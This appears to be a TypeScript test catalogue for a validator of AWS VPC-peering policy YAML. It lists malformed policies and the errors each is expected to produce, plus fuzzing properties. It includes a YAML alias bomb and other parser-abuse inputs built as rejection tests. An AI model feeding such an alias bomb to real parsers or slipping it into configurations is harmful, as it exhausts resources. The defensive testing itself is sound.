  /** The rule the error must name (`rule '<rule>'`), when the problem is inside one. */
  rule?: string;
  /** The field the error must name (`field <field>`). */
  field?: string;
  message: RegExp;
}

/** The shipped policy with one textual replacement (which must apply). */
function shippedWith(search: string, replacement: string, occurrence = 0): string {
  let from = -1;
  for (let i = 0; i <= occurrence; i++) {
    from = SHIPPED_POLICY.indexOf(search, from + 1);
    if (from < 0) throw new Error(`policy catalogue: '${search}' (#${occurrence}) is not in policy.yml`);
  }
  return SHIPPED_POLICY.slice(0, from) + replacement + SHIPPED_POLICY.slice(from + search.length);
}

/** The shipped policy as data, edited, written back as YAML. */
function shippedDoc(edit: (doc: Ev) => void): string {
  const doc = parse(SHIPPED_POLICY);
  edit(doc);
  return stringify(doc);
}

const P1 = "payments-to-shared";
const P2 = "partner-analytics";

const validation: Array<Omit<PolicyCase, "group">> = [
  {
    name: "unknown top-level key",
    source: { text: `${SHIPPED_POLICY}owner: netops\n` },
    message: /unknown key\(s\): owner/,
  },
  {
    name: "unknown key in a rule",
    source: { text: shippedWith("    accepter:\n", "    owner: netops\n    accepter:\n") },
    rule: P1,
    message: /unknown key\(s\): owner/,
  },
  {
    name: "unknown key in a selector (account for accounts)",
    source: { text: shippedWith('      accounts: ["333333333333"]', '      account: ["333333333333"]') },
    rule: P2,
    field: "requester",
    message: /unknown key\(s\): account/,
  },
  {
    name: "unknown key in routes",
    source: { text: shippedWith("      requester: none\n", "      requester: none\n      both: all\n") },
    rule: P2,
    field: "routes",
    message: /unknown key\(s\): both/,
  },
  {
    name: "bad CIDR (prefix 33)",
    source: { text: shippedWith('"10.16.0.0/12"', '"10.16.0.0/33"') },
    rule: P1,
    field: "requester.cidrs[0]",
    message: /not a CIDR block/,
  },
  {
    name: "bad CIDR (a word)",
    source: { text: shippedWith('"172.20.0.0/16"', '"everything"') },
    rule: P2,
    field: "requester.cidrs[0]",
    message: /not a CIDR block/,
  },
  {
    name: "bad CIDR (an address without prefix)",
    source: { text: shippedWith('"172.20.0.0/16"', '"172.20.0.1"') },
    rule: P2,
    field: "requester.cidrs[0]",
    message: /./,
  },
  {
    name: "IPv4 CIDR with host bits set",
    source: { text: shippedWith('"10.16.0.0/12"', '"10.16.0.1/12"') },
    rule: P1,
    field: "requester.cidrs[0]",
    message: /host bits/,
  },
  {
    name: "IPv6 CIDR with host bits set",
    source: { text: shippedWith('"fd00:16::/32"', '"fd00:16::1/32"') },
    rule: P1,
    field: "requester.cidrs[1]",
    message: /host bits/,
  },
  {
    name: "accepter account id of 11 digits",
    source: { text: shippedWith('["111111111111"] # required', '["11111111111"] # required') },
    rule: P1,
    field: "accepter.accounts[0]",
    message: /12-digit/,
  },
  {
    name: "requester account id with a letter",
    source: { text: shippedWith('["222222222222"]', '["22222222222a"]') },
    rule: P1,
    field: "requester.accounts[0]",
    message: /./,
  },
  {
    name: "requester account id as a YAML number",
    source: { text: shippedWith('["222222222222"]', "[222222222222]") },
    rule: P1,
    field: "requester.accounts[0]",
    message: /./,
  },
  {
    name: "'*' as accepter account",
    source: {
      text: shippedWith(
        '      accounts: ["111111111111"]\n      regions',
        '      accounts: ["*"]\n      regions',
      ),
    },
    rule: P2,
    field: "accepter.accounts[0]",
    message: /12-digit/,
  },
  {
    name: "accepter region in upper case",
    source: { text: shippedWith('regions: ["us-east-1"] # optional', 'regions: ["US-EAST-1"] # optional') },
    rule: P1,
    field: "accepter.regions[0]",
    message: /AWS region/,
  },
  {
    name: "availability zone as requester region",
    source: { text: shippedWith('"us-east-1", "eu-west-1"', '"us-east-1", "eu-west-1a"') },
    rule: P1,
    field: "requester.regions[1]",
    message: /AWS region/,
  },
  {
    name: "bad VPC id",
    source: { text: shippedWith('"vpc-0f9e8d7c6b5a40001"', '"vpc-12345"') },
    rule: P1,
    field: "accepter.vpcs[0]",
    message: /VPC id/,
  },
  {
    name: "duplicate rule name",
    source: { text: shippedWith(`- name: ${P2}`, `- name: ${P1}`) },
    rule: "rules[1]",
    field: "name",
    message: /duplicate rule name 'payments-to-shared'/,
  },
  {
    name: "rule name with spaces",
    source: { text: shippedWith(`- name: ${P2}`, "- name: partner analytics") },
    rule: "partner analytics",
    field: "name",
    message: /letters, digits/,
  },
  {
    name: "missing version",
    source: { text: shippedWith("version: 1\n", "") },
    field: "version",
    message: /expected 1/,
  },
  {
    name: "missing rules",
    source: { text: shippedDoc((d) => delete d.rules) },
    field: "rules",
    message: /expected array/,
  },
  {
    name: "missing rule name",
    source: { text: shippedDoc((d) => delete d.rules[1].name) },
    rule: "rules[1]",
    field: "name",
    message: /expected string/,
  },
  {
    name: "missing accepter",
    source: { text: shippedDoc((d) => delete d.rules[0].accepter) },
    rule: P1,
    field: "accepter",
    message: /expected object/,
  },
  {
    name: "missing accepter.accounts",
    source: { text: shippedDoc((d) => delete d.rules[0].accepter.accounts) },
    rule: P1,
    field: "accepter.accounts",
    message: /expected array/,
  },
  {
    name: "missing requester",
    source: { text: shippedDoc((d) => delete d.rules[1].requester) },
    rule: P2,
    field: "requester",
    message: /expected object/,
  },
  {
    name: "missing requester.accounts",
    source: { text: shippedDoc((d) => delete d.rules[1].requester.accounts) },
    rule: P2,
    field: "requester.accounts",
    message: /expected array/,
  },
  {
    name: "missing requester.cidrs",
    source: { text: shippedDoc((d) => delete d.rules[0].requester.cidrs) },
    rule: P1,
    field: "requester.cidrs",
    message: /expected array/,
  },
  ...(
    [
      [0, "accepter.accounts"],
      [0, "accepter.regions"],
      [0, "accepter.vpcs"],
      [0, "requester.accounts"],
      [0, "requester.regions"],
      [1, "requester.cidrs"],
    ] as const
  ).map(([index, field]) => ({
    name: `empty ${field}`,
    source: {
      text: shippedDoc((d) => {
        const [side, list] = field.split(".") as [string, string];
        d.rules[index][side][list] = [];
      }),
    },
    rule: index === 0 ? P1 : P2,
    field,
    message: /at least one/,
  })),
  {
    name: "version 2",
    source: { text: shippedWith("version: 1", "version: 2") },
    field: "version",
    message: /expected 1/,
  },
  {
    name: "version as a string",
    source: { text: shippedWith("version: 1", 'version: "1"') },
    field: "version",
    message: /expected 1/,
  },
  {
    name: "version 1.0.0",
    source: { text: shippedWith("version: 1", "version: 1.0.0") },
    field: "version",
    message: /expected 1/,
  },
  {
    name: "unmatched: accept",
    source: { text: shippedWith("unmatched: reject", "unmatched: accept") },
    field: "unmatched",
    message: /reject|ignore/,
  },
  {
    name: "unmatched: true",
    source: { text: shippedWith("unmatched: reject", "unmatched: true") },
    field: "unmatched",
    message: /./,
  },
  {
    name: "unmatched empty",
    source: { text: shippedWith("unmatched: reject", "unmatched: ''") },
    field: "unmatched",
    message: /./,
  },
  {
    name: "routes selector 'some'",
    source: { text: shippedWith("      accepter: all #", "      accepter: some #") },
    rule: P1,
    field: "routes.accepter",
    message: /must be all, main, none or \{tags/,
  },
  {
    name: "routes selector with 'tag' for 'tags'",
    source: { text: shippedWith("{ tags: { peering: partners } }", "{ tag: { peering: partners } }") },
    rule: P2,
    field: "routes.accepter",
    message: /must be all, main, none or \{tags/,
  },
  {
    name: "routes selector naming no tag",
    source: { text: shippedWith("{ tags: { peering: partners } }", "{ tags: {} }") },
    rule: P2,
    field: "routes.accepter.tags",
    message: /at least one tag/,
  },
  {
    name: "routes selector as a list",
    source: { text: shippedWith("      requester: none\n", "      requester: [main]\n") },
    rule: P2,
    field: "routes.requester",
    message: /must be all, main, none or \{tags/,
  },
  ...(
    [
      ["yes", "yes (YAML 1.1 boolean)"],
      ['"true"', "a quoted string"],
      ["1", "a number"],
      ["~", "null"],
    ] as const
  ).map(([value, label]) => ({
    name: `dnsResolution: ${label}`,
    source: {
      text: shippedWith("    dnsResolution: false\n", `    dnsResolution: ${value}\n`),
    },
    rule: P1,
    field: "dnsResolution",
    message: /expected boolean/,
  })),
  {
    name: "rules is a mapping",
    source: { text: "version: 1\nrules:\n  name: x\n" },
    field: "rules",
    message: /expected array/,
  },
  {
    name: "a rule is a scalar",
    source: { text: shippedWith(`  - name: ${P2}\n`, "  - just-a-name\n  - name: partner-analytics\n") },
    rule: "rules[1]",
    message: /expected object/,
  },
  {
    name: "accounts as a scalar, not a list",
    source: { text: shippedWith('accounts: ["222222222222"]', 'accounts: "222222222222"') },
    rule: P1,
    field: "requester.accounts",
    message: /expected array/,
  },
];

const bomb = [
  "version: 1",
  'a: &a ["x", "x", "x", "x", "x", "x", "x", "x", "x"]',
  "b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]",
  "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]",
  "d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]",
  "rules: [*d, *d, *d, *d, *d, *d, *d, *d, *d]",
  "",
].join("\n");

const yaml: Array<Omit<PolicyCase, "group">> = [
  {
    name: "anchor of accounts aliased as cidrs",
    source: {
      text: shippedWith('      accounts: ["222222222222"]', '      accounts: &ids ["222222222222"]').replace(
        'cidrs: ["10.16.0.0/12", "fd00:16::/32"]',
        "cidrs: *ids",
      ),
    },
    rule: P1,
    field: "requester.cidrs[0]",
    message: /not a CIDR block/,
  },
  {
    name: "anchor of a whole rule aliased twice (duplicate name)",
    source: {
      text: "version: 1\nrules:\n  - &r\n    name: same\n    accepter: { accounts: ['111111111111'] }\n    requester: { accounts: ['222222222222'], cidrs: ['10.20.0.0/16'] }\n  - *r\n",
    },
    rule: "rules[1]",
    field: "name",
    message: /duplicate rule name 'same'/,
  },
  { name: "alias bomb", source: { text: bomb }, message: /alias/i },
  {
    name: "eighty aliases of one account",
    source: {
      text: `version: 1\nrules:\n  - name: many\n    accepter: { accounts: [&a "111111111111", ${Array(80).fill("*a").join(", ")}] }\n    requester: { accounts: ["222222222222"], cidrs: ["10.20.0.0/16"] }\n`,
    },
    message: /alias/i,
  },
  {
    name: "merge key bringing an unknown key into a selector",
    source: {
      text: shippedWith(
        '    requester:\n      accounts: ["333333333333"]',
        '    requester:\n      <<: { owner: partners }\n      accounts: ["333333333333"]',
      ),
    },
    rule: P2,
    field: "requester",
    message: /unknown key\(s\): owner/,
  },
  {
    name: "merge key bringing a bad account id",
    source: {
      text: shippedWith(
        '    accepter:\n      accounts: ["111111111111"]\n      regions: ["us-east-1"]\n    requester:\n      accounts: ["333333333333"]',
        '    accepter:\n      <<: { accounts: ["1111"] }\n      regions: ["us-east-1"]\n    requester:\n      accounts: ["333333333333"]',
      ),
    },
    rule: P2,
    field: "accepter.accounts[0]",
    message: /12-digit/,
  },
  {
    name: "merge key of a list, not a mapping",
    source: { text: "version: 1\nrules:\n  - &l [1]\n  - <<: *l\n    name: x\n" },
    message: /[Mm]erge/,
  },
  { name: "duplicate top-level key", source: { text: `${SHIPPED_POLICY}version: 1\n` }, message: /unique/ },
  {
    name: "duplicate key in a rule",
    source: {
      text: shippedWith(
        "    accepter:\n",
        '    accepter:\n      accounts: ["444444444444"]\n    accepter:\n',
      ),
    },
    message: /unique/,
  },
  {
    name: "duplicate key in a flow mapping",
    source: {
      text: shippedWith(
        "{ tags: { peering: partners } }",
        "{ tags: { peering: partners, peering: everyone } }",
      ),
    },
    message: /unique/,
  },
  {
    name: "rules is a string",
    source: { text: "version: 1\nrules: all\n" },
    field: "rules",
    message: /expected array/,
  },
  {
    name: "version is a list",
    source: { text: shippedWith("version: 1", "version: [1]") },
    field: "version",
    message: /expected 1/,
  },
  {
    name: "tab indentation",
    source: { text: shippedWith("    accepter:\n", "\taccepter:\n") },
    message: /[Tt]ab|indent/,
  },
  {
    name: "two documents in one file",
    source: { text: `${SHIPPED_POLICY}---\n${SHIPPED_POLICY}` },
    message: /multiple documents/,
  },
  {
    name: "an empty second document",
    source: { text: `${SHIPPED_POLICY}---\n` },
    message: /multiple documents|./,
  },
  {
    name: "an empty file",
    source: { text: "" },
    message: /found nothing \(is the file empty, binary, or not UTF-8\?\)/,
  },
  {
    name: "whitespace only",
    source: { text: " \n\n  \n" },
    message: /found nothing \(is the file empty, binary, or not UTF-8\?\)/,
  },
  {
    name: "comments only",
    source: { text: "# the policy goes here\n" },
    message: /found nothing \(is the file empty, binary, or not UTF-8\?\)/,
  },
  {
    name: "a lone document marker",
    source: { text: "---\n" },
    message: /found nothing \(is the file empty, binary, or not UTF-8\?\)/,
  },
  {
    name: "a null document",
    source: { text: "~\n" },
    message: /found nothing \(is the file empty, binary, or not UTF-8\?\)/,
  },
  {
    name: "a list, not a mapping",
    source: { text: "- version: 1\n" },
    message: /expected a YAML mapping .* found a list/,
  },
  {
    name: "unknown tag",
    source: { text: shippedWith("version: 1", "version: !custom 1") },
    message: /[Tt]ag/,
  },
  {
    name: "unclosed flow list",
    source: { text: shippedWith('["10.16.0.0/12", "fd00:16::/32"]', '["10.16.0.0/12", "fd00:16::/32"') },
    message: /./,
  },
  {
    name: "a NUL byte in a value",
    source: { text: shippedWith("version: 1", "version: 1\u0000") },
    field: "version",
    message: /expected 1/,
  },
  {
    name: "a binary file (PNG header and bytes)",
    source: {
      bytes: new Uint8Array([
        0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0xff, 0xfe, 1, 2, 3,
      ]),
    },
    message: /./,
  },
  {
    name: "the policy encoded as UTF-16",
    source: {
      bytes: new Uint8Array(
        Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(SHIPPED_POLICY, "utf16le")]),
      ),
    },
    message: /./,
  },
];

const files: Array<Omit<PolicyCase, "group">> = [
  { name: "a missing file", source: { path: "missing" }, message: /cannot read the file: ENOENT/ },
  { name: "a directory", source: { path: "directory" }, message: /cannot read the file: EISDIR/ },
];

export const POLICY_CASES: PolicyCase[] = [
  ...validation.map((c) => ({ ...c, group: "validation" as const })),
  ...yaml.map((c) => ({ ...c, group: "yaml" as const })),
  ...files.map((c) => ({ ...c, group: "file" as const })),
];

// --- fuzzing ------------------------------------------------------------------------------------

/** The fast-check properties, each run PROPERTY_RUNS times (default 200). */
export const FUZZ_PROPERTIES = [
  "events: mutated events about a request the policy REJECTS",
  "events: mutated events about a request the policy ACCEPTS",
  "policies: textual mutations of the shipped policy.yml",
  "policies: structural mutations of the shipped policy.yml",
] as const;

/** The sample events the event properties mutate. */
export const FUZZ_SAMPLES = [
  "model: CreateVpcPeeringConnection",
  "model: AcceptVpcPeeringConnection",
  "model: RejectVpcPeeringConnection",
  "model: DeleteVpcPeeringConnection (requester)",
  "model: DeleteVpcPeeringConnection (accepter)",
  "model: AssociateVpcCidrBlock (requester VPC)",
  "model: DisassociateVpcCidrBlock (accepter VPC)",
  "fixture: create-cross-account.json",
  "fixture: create-inter-region.json",
  "fixture: create-failed-call.json",
  "fixture: accept.json",
  "fixture: delete.json",
  "fixture: associate-vpc-cidr.json",
  "fixture, rebased on the real connection: create-cross-account.json",
  "fixture, rebased on the real connection: create-inter-region.json",
  "fixture, rebased on the real connection: accept.json",
  "fixture, rebased on the real connection: delete.json",
] as const;
